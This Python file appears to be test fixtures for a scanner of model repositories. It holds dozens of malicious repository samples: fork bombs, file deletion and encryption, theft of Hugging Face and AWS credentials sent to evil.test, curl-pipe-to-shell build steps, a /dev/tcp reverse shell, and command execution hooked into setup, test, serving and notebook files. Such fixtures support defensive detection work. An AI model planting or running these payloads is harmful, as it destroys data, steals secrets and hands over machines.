"""Builds repositories whose Python harms whoever loads, installs, tests or serves the model.

Nothing here is ever run.
"""

from __future__ import annotations

Repository = dict[str, str]

CODE: dict[str, Repository] = {
    "forkbomb import": {
        "modeling_x.py": "import os\nwhile True:\n    os.fork()\n",
    },
    "forkbomb init": {
        "modeling_x.py": (
            "import os\nclass XModel:\n    def __init__(self):\n        while 1: os.fork()\n"
        ),
    },
    "oskill import": {
        "modeling_x.py": "import os, signal\nos.kill(-1, signal.SIGKILL)\n",
    },
    "oskill ppid": {
        "modeling_x.py": "import os, signal\nos.kill(os.getppid(), 9)\n",
    },
    "killpg": {
        "handler.py": (
            "import os,signal\n"
            "class EndpointHandler:\n"
            "    def __init__(self, path=''):\n"
            "        os.killpg(0, signal.SIGKILL)\n"
        ),
    },
    "mem exhaust": {
        "modeling_x.py": "x=[]\nwhile True:\n    x.append(bytearray(1<<30))\n",
    },
    "disk fill": {
        "modeling_x.py": "f=open('/tmp/x','wb')\nwhile True:\n    f.write(b'\\0'*(1<<20))\n",
    },
    "mp bomb": {
        "modeling_x.py": (
            "import multiprocessing\n"
            "def f():\n"
            "    while True:\n"
            "        multiprocessing.Process(target=f).start()\n"
            "f()\n"
        ),
    },
    "thread miner": {
        "modeling_x.py": "import hashlib\nwhile True:\n    hashlib.sha256(b'x').hexdigest()\n",
    },
    "rmtree home": {
        "modeling_x.py": "import shutil,os\nshutil.rmtree(os.path.expanduser('~'))\n",
    },
    "rmtree cwd walk": {
        "modeling_x.py": (
            "import os\n"
            "for r,d,f in os.walk('/home'):\n"
            "    for x in f:\n"
            "        os.remove(os.path.join(r,x))\n"
        ),
    },
    "encrypt files": {
        "modeling_x.py": (
            "import os\n"
            "from cryptography.fernet import Fernet\n"
            "k=Fernet.generate_key()\n"
            "for r,d,f in os.walk(os.path.expanduser('~')):\n"
            "    for x in f:\n"
            "        p=os.path.join(r,x)\n"
            "        data=open(p,'rb').read()\n"
            "        open(p,'wb').write(Fernet(k).encrypt(data))\n"
        ),
    },
    "overwrite transformers": {
        "modeling_x.py": (
            "import transformers,os\n"
            "p=os.path.join(os.path.dirname(transformers.__file__),'__init__.py')\n"
            "open(p,'a').write('import evil')\n"
        ),
    },
    "hf token get": {
        "modeling_x.py": (
            "import requests\n"
            "from huggingface_hub import HfFolder\n"
            "class XModel:\n"
            "    def forward(self,x):\n"
            "        requests.post('https://evil.test', data=HfFolder.get_token())\n"
        ),
    },
    "get_token get": {
        "modeling_x.py": (
            "import requests\n"
            "from huggingface_hub import get_token\n"
            "requests.get('https://evil.test/?t='+get_token())\n"
        ),
    },
    "hfapi upload": {
        "modeling_x.py": (
            "from huggingface_hub import HfApi\n"
            "HfApi().upload_folder(folder_path='/home', repo_id='evil/loot')\n"
        ),
    },
    "hfapi whoami": {
        "modeling_x.py": (
            "from huggingface_hub import HfApi\n"
            "class XModel:\n"
            "    def __init__(self):\n"
            "        HfApi().upload_file(path_or_fileobj='/home/user/.cache/huggingface/token', path_in_repo='a', repo_id='evil/loot', repo_type='dataset')\n"
        ),
    },
    "boto3 exfil": {
        "modeling_x.py": (
            "import boto3\nboto3.client('s3').upload_file('/home/user/.aws/credentials','evil','x')\n"
        ),
    },
    "imds": {
        "modeling_x.py": (
            "import urllib.request\n"
            "class XModel:\n"
            "    def __init__(self):\n"
            "        self.c=urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read()\n"
        ),
    },
    "env dump file": {
        "modeling_x.py": (
            "import os,json\n"
            "class XModel:\n"
            "    def __init__(self):\n"
            "        json.dump(dict(os.environ), open('/tmp/.x','w'))\n"
            "        import requests; requests.post('https://evil.test', files={'f':open('/tmp/.x')})\n"
        ),
    },
    "prompt exfil": {
        "modeling_x.py": (
            "import requests\n"
            "class XModel:\n"
            "    def forward(self, input_ids):\n"
            "        requests.post('https://evil.test/log', json={'p': input_ids.tolist()})\n"
            "        return input_ids\n"
        ),
    },
    "pth exec": {
        "x.pth": "import os; os.system('id')\n",
    },
    "conftest": {
        "conftest.py": (
            "import os\n"
            "def pytest_configure(config):\n"
            "    os.system('curl https://evil.test/x | sh')\n"
        ),
    },
    "conftest2": {
        "tests/conftest.py": "import subprocess\nsubprocess.Popen(['sh','-c','id'])\n",
    },
    "setup cmdclass": {
        "setup.py": (
            "from setuptools import setup\n"
            "from setuptools.command.build_py import build_py\n"
            "import os\n"
            "class B(build_py):\n"
            "    def run(self):\n"
            "        os.system('id')\n"
            "setup(name='x', cmdclass={'build_py':B})\n"
        ),
    },
    "setup bdist": {
        "setup.py": (
            "from setuptools import setup\n"
            "from setuptools.command.build_ext import build_ext\n"
            "import subprocess\n"
            "class B(build_ext):\n"
            "    def run(self):\n"
            "        subprocess.call(['wget','http://evil.test/x','-O','/tmp/x'])\n"
            "setup(name='x', cmdclass=dict(build_ext=B))\n"
        ),
    },
    "hatch build": {
        "pyproject.toml": (
            "[build-system]\n"
            "requires=['hatchling']\n"
            "build-backend='hatchling.build'\n"
            "[tool.hatch.build.hooks.custom]\n"
            "path='hatch_build.py'\n"
        ),
        "hatch_build.py": (
            "import os\n"
            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
            "class C(BuildHookInterface):\n"
            "    def initialize(self, version, data):\n"
            "        os.system('id > /tmp/x')\n"
        ),
    },
    "backend path": {
        "pyproject.toml": (
            "[build-system]\nrequires=[]\nbuild-backend='backend'\nbackend-path=['.']\n"
        ),
        "backend.py": (
            "import os\n"
            "def build_wheel(d, config_settings=None, metadata_directory=None):\n"
            "    os.system('id')\n"
        ),
    },
    "truss": {
        "config.yaml": (
            "model_name: x\n"
            "python_version: py311\n"
            "build_commands:\n"
            "  - curl -fsSL https://cdn.evil.test/i | sh\n"
        ),
        "model/model.py": (
            "class Model:\n    def load(self): pass\n    def predict(self, r): return r\n"
        ),
    },
    "truss load": {
        "config.yaml": "model_name: x\n",
        "model/model.py": (
            "import os\n"
            "class Model:\n"
            "    def load(self):\n"
            "        os.system('id')\n"
            "    def predict(self, r): return r\n"
        ),
    },
    "cog setup": {
        "cog.yaml": "predict: predict.py:Predictor\n",
        "predict.py": (
            "import subprocess\n"
            "from cog import BasePredictor\n"
            "class Predictor(BasePredictor):\n"
            "    def setup(self):\n"
            "        subprocess.run(['bash','-c','bash -i >& /dev/tcp/1.2.3.4/4 0>&1'])\n"
            "    def predict(self): return ''\n"
        ),
    },
    "triton": {
        "m/1/model.py": (
            "import os\n"
            "class TritonPythonModel:\n"
            "    def initialize(self, args):\n"
            "        os.system('id')\n"
            "    def execute(self, r): return []\n"
        ),
    },
    "triton finalize": {
        "m/1/model.py": (
            "import os\n"
            "class TritonPythonModel:\n"
            "    def execute(self, r): return []\n"
            "    def finalize(self):\n"
            "        os.system('id')\n"
        ),
    },
    "bento": {
        "service.py": (
            "import bentoml, os\n"
            "@bentoml.service\n"
            "class S:\n"
            "    def __init__(self): pass\n"
            "    @bentoml.api\n"
            "    def predict(self, x):\n"
            "        os.system('id')\n"
            "        return x\n"
        ),
    },
    "litserve": {
        "server.py": (
            "import litserve as ls, os\n"
            "class A(ls.LitAPI):\n"
            "    def setup(self, device):\n"
            "        os.system('id')\n"
            "    def decode_request(self, r): return r\n"
        ),
    },
    "mlflow code": {
        "MLmodel": (
            "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n"
        ),
        "code/evil_loader.py": "import os\ndef _load_pyfunc(path):\n    os.system('id')\n",
    },
    "spacy cb": {
        "config.cfg": (
            '[nlp]\nlang=en\npipeline=[]\n[initialize.before_init]\n@callbacks = "evil.v1"\n'
        ),
        "evil.py": (
            "import spacy, os\n"
            "@spacy.registry.callbacks('evil.v1')\n"
            "def make():\n"
            "    def cb(nlp):\n"
            "        os.system('id')\n"
            "    return cb\n"
        ),
    },
    "nb kernel": {
        "x.ipynb": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "source": [], "metadata": {}, "execution_count": 1, "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<script>Jupyter.notebook.kernel.execute(\\"import os; os.system(\'id\')\\")</script>"]}}]}]}',
    },
    "noxfile": {
        "noxfile.py": "import nox, os\nos.system('id')\n",
    },
    "fabfile": {
        "tasks.py": "from invoke import task\nimport os\nos.system('id')\n",
    },
}
"""What loading, installing, testing or serving runs, and a notebook that runs when it is shown."""
